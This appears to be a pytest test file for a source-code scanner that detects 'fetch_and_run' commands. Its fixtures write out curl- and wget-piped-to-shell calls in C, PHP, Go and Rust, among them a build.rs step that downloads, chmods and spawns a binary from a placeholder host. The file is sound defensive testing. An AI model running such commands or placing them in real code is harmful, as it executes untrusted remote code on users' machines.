import pytest

from knownhands.harvest.code.given import command_given
from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers._reader import readers_of


def shown(path: str, text: str) -> set[str]:
    notes = Notes(path, every_line=True, is_program=True)
    for reader in readers_of(path, b"x"):
        if reader.id in {"source", "scripting"}:
            reader.read(notes, text.encode())
    return {observation.capability for observation in notes.observations()}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("src/wheel.c", 'system("curl -s https://kiln.example/w | sh &");'),
        ("src/wheel.php", "shell_exec('wget -qO- https://kiln.example/w | bash');"),
        ("src/wheel.go", 'exec.Command("sh", "-c", "curl -s https://kiln.example/w | sh").Run()'),
        (
            "build.rs",
            'Command::new("curl").args(["-so", path, "https://kiln.example/w"]).status();\nCommand::new("chmod").args(["+x", path]).status();\nCommand::new(path).spawn();',
        ),
    ],
    ids=["C", "PHP", "Go", "Rust, word by word"],
)
def test_a_command_that_downloads_and_runs_is_read_wherever_it_is_given_to_the_system(path, text):
    assert "fetch_and_run" in shown(path, text)


@pytest.mark.parametrize(
    "text",
    [
        'system("make all | tee build.log");',
        'printf("curl -s https://kiln.example/w | sh");',
        'popen("curl -s https://kiln.example/pots.json", "r");',
    ],
)
def test_other_commands_and_words_about_them_are_not_taken_for_it(text):
    assert "fetch_and_run" not in shown("src/wheel.c", text)


@pytest.mark.parametrize("body", ['system("' + "a" * 1_000_000, "system(" * 100_000, 'system("' + '\\"' * 300_000])
def test_hostile_calls_are_read_in_time(body):
    assert "fetch_and_run" not in shown("src/wheel.c", body)


def test_a_call_of_names_only_gives_no_command():
    assert not command_given("system(command);")
